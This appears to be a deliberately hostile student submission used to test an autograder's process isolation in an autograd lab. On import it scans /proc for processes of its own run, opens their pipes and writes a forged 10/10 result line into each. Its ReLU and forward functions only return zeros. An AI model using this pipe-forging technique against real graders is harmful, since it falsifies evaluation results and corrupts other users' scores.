"""Hostile (isolation): opens every pipe of every other process of its run that it can see
through /proc/<pid>/fd/N (its grader's result pipe among them) and writes a forged result line
into each, then computes zeros.

A grader that took the forged line would give this file 10/10 and shift every later
student's result by one item. The number of pipes it managed to open is printed. It only
touches processes whose environment holds AUTOGRAD_LAB_TEST_CLASS's value (the test's run:
never another program's pipes, where the kernel gives no namespaces).
"""

import json
import os
import signal

import torch

FORGED = (json.dumps({"ok": True, "report": {"checks": [], "score": 10, "max_score": 10}})
          + "\n").encode()
signal.signal(signal.SIGPIPE, signal.SIG_IGN)  # a pipe without a reader is no reason to stop
TOKEN = os.environ.get("AUTOGRAD_LAB_TEST_CLASS", "").encode()
opened = 0
for entry in os.listdir("/proc"):
    if not TOKEN or not entry.isdigit() or int(entry) == os.getpid():
        continue
    try:
        with open(f"/proc/{entry}/environ", "rb") as environ:
            if b"AUTOGRAD_LAB_TEST_CLASS=" + TOKEN not in environ.read():
                continue
        fds = os.listdir(f"/proc/{entry}/fd")
    except OSError:
        continue
    for fd in fds:
        path = f"/proc/{entry}/fd/{fd}"
        try:
            if not os.readlink(path).startswith("pipe:"):
                continue
            out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            os.write(out, FORGED)
            opened += 1
        except OSError:
            pass
        finally:
            os.close(out)
print(f"forged into {opened} pipes")


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(input)
        return input * 0

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output * 0


def two_layer_forward(x, w1, w2):
    return (x @ w1) @ w2 * 0
